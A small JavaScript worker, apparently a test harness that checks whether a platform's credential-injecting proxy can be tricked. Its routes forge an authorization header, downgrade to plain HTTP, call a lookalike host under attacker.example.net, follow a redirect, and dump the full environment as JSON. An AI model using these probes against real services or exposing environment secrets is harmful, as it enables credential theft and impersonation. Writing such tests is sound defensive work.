// Tries to get at the platform's credentials, or to use an API as somebody else.
const ATTEMPTS = {
  "/own": () =>
    fetch("https://payments.example.com/charge", {
      headers: { authorization: "Bearer of-my-own", "x-customer": "shop" },
    }),
  "/plain": () => fetch("http://payments.example.com/charge"),
  "/lookalike": () => fetch("https://payments.example.com.attacker.example.net/"),
  "/redirect": () => fetch("https://payments.example.com/moved"),
  "/env": (env) => Response.json(env),
};

export default {
  async fetch(request, env) {
    return ATTEMPTS[new URL(request.url).pathname](env);
  },
};
